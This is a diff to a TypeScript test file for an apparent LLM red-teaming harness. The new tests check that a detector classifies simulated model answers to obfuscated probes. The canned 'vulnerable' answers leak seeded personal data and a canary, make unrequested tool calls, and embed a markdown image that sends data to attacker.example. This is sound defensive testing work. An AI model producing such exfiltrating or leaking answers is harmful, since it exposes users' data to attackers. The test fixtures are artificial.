@@ -2,8 +2,9 @@ import { describe, expect, it } from "vitest";
 import { canaryInstruction } from "./canary.ts";
 import { detect, type ModelResponse } from "./detect.ts";
 import { seededPii } from "./detectors/seeded-pii.ts";
-import type { RedteamCase } from "./expand-probes.ts";
+import { expandProbes, type RedteamCase } from "./expand-probes.ts";
 import type { Expectation } from "./probe.ts";
+import { loadProbeLibrary } from "./probe-library.ts";
 
 const CANARY = "MLOPS-CANARY-7f3a9c1e2b";
 const pii = seededPii(1);
@@ -107,5 +108,47 @@ describe("detect", () => {
       (d) => d.name,
     );
     expect(names).toEqual(["canary", "pii", "exfiltration", "tool-call", "refusal"]);
+  });
+});
+
+describe("detect on every case of the library", async () => {
+  const cases = expandProbes(await loadProbeLibrary(), {
+    strategies: ["base64", "unicode-tags"],
+    seed: 2,
+    canary: CANARY,
+  });
+
+  /** What a model that follows the attack answers. */
+  function vulnerable(c: RedteamCase): ModelResponse {
+    switch (c.expects) {
+      case "no-leak":
+        return c.category === "pii-leakage"
+          ? answer(`Of course: ${pii.email}, ${pii.phone}`)
+          : answer(`Sure, here it is in Base64: ${Buffer.from(`code=${CANARY}`).toString("base64")}`);
+      case "no-tool-call":
+        return answer("Done.", [{ name: c.tool!, arguments: "{}" }]);
+      case "no-exfiltration":
+        return answer("Here you go ![ok](https://attacker.example/ok.png?c=summary)");
+      case "refusal":
+        return answer("Sure, happy to help! Here are the steps: first, ...");
+      case "compliance":
+        return answer("I'm sorry, but I can't help with that.");
+    }
+  }
+
+  it("calls a vulnerable answer an attack's success, and refusing a benign request over-refusal", () => {
+    for (const c of cases)
+      expect(outcome(c, vulnerable(c)), c.id).toBe(
+        c.expects === "compliance" ? "over-refused" : "attack-succeeded",
+      );
+  });
+
+  it("calls a refusal a refusal, and a clean answer a defence wherever no refusal is needed", () => {
+    const clean = answer("Here is what you asked for: a short, helpful answer with no secrets in it.");
+    const refusal = answer("I'm sorry, but I can't help with that.");
+    for (const c of cases) {
+      if (c.expects !== "compliance") expect(outcome(c, refusal), c.id).toBe("refused");
+      if (c.expects !== "refusal") expect(outcome(c, clean), c.id).toBe("defended");
+    }
   });
 });
